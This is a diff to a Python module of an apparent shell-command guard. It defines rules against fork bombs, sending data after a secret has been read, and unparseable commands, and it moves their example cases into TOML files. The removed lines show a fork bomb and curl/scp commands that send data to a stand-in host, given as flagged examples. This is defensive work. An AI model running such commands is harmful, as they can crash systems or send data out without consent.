@@ -5,12 +5,16 @@ from __future__ import annotations
 from collections.abc import Callable, Iterator
 from functools import lru_cache
 from importlib import import_module
+from pathlib import Path
 from typing import Any
 
-from snell.packs.guard.path_classes import Workspace, is_snell_folder
+import msgspec
+from msgspec import Struct
+
+from snell.packs.guard.path_classes import Workspace
 from snell.packs.guard.rule import Finding, Rule
-from snell.packs.guard.shell.shell_state import Step
-from snell.packs.guard.triggers import IN_SNELL_FOLDER, LONGEST_NAME, traits_of
+from snell.packs.guard.shell.shell_state import LONGEST_NAME, Step
+from snell.packs.guard.triggers import IN_SNELL_FOLDER, traits_of
 
 Finder = Callable[[Step, Workspace], Iterator[Finding]]
 
@@ -18,24 +22,18 @@ FORK_BOMB = Rule(
     name="fork-bomb",
     family="system",
     instead="start a fixed number of processes and wait for them",
-    flagged=(":(){ :|:& };:", "while true; do work & done"),
-    fine=("for i in 1 2 3; do work & done; wait", "while true; do sleep 1; work; done"),
     about="Stop commands that start processes without end.",
 )
 AFTER_SECRET = Rule(
     name="send-after-secret",
     family="exfiltration",
     instead="say what is sent and where, and let the user decide",
-    flagged=("curl -d hello https://h.example", "scp notes.txt h.example:"),
-    fine=("curl https://h.example", "git push origin main", "curl -d hello http://localhost:3000"),
     about="Ask about commands that send data in a session that has read a secret; deny those that send its value.",
 )
 UNREADABLE = Rule(
     name="unreadable",
     family="execution",
     instead="write it as a plain, complete command",
-    flagged=("echo 'open", 'echo "open'),
-    fine=("echo 'closed'",),
     about="Ask about commands that cannot be parsed completely: invalid, too long, or nested too deeply.",
 )
 
@@ -76,24 +74,39 @@ RULES: dict[str, Rule] = {
 }
 
 
-def find_in_step(step: Step, real: Step | None, workspace: Workspace) -> Iterator[Finding]:
+class Cases(Struct, frozen=True):
+    """Commands that a rule stops, and similar ones that it does not stop."""
+
+    flagged: tuple[str, ...]
+    fine: tuple[str, ...]
+
+
+def read_cases() -> dict[str, Cases]:
+    """Return the cases of all rules, by name: each rule has a file beside its module."""
+    files = {name: Path(__file__).with_name(f"{name.replace('-', '_')}.toml") for name in RULES}
+    return {name: msgspec.toml.decode(file.read_bytes(), type=Cases) for name, file in files.items()}
+
+
+def find_in_step(step: Step, real: Step | None, workspace: Workspace) -> list[Finding]:
     """
     Call the rules whose trigger occurs in a step.
 
     Args:
         real: the same step with symbolic links resolved, where there are any; it is judged, too.
     """
-    place = IN_SNELL_FOLDER if is_snell_folder(workspace) else 0
+    place = IN_SNELL_FOLDER if workspace.is_snell_folder else 0
     called = _finders(step.program[:LONGEST_NAME], traits_of(step) | place)
+    findings = list[Finding]()
     if real is None:
         for find in called:
-            yield from find(step, workspace)
-        return
+            findings += find(step, workspace)
+        return findings
     called_by_real = _finders(real.program[:LONGEST_NAME], traits_of(real) | place)
     for find in _FINDERS:
         for each, finders in ((step, called), (real, called_by_real)):
             if find in finders:
-                yield from find(each, workspace)
+                findings += find(each, workspace)
+    return findings
 
 
 @lru_cache(maxsize=2048)
